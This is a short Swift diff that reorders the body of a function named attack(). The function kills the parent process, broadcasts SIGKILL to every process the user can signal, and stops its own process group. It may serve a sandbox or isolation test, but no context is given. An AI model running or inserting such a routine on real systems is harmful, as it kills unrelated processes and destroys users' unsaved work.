@@ -4,6 +4,6 @@ import Foundation
 
 func attack() {
   kill(getppid(), SIGKILL)
-  kill(0, SIGSTOP)
   kill(-1, SIGKILL)
+  kill(0, SIGSTOP)
 }
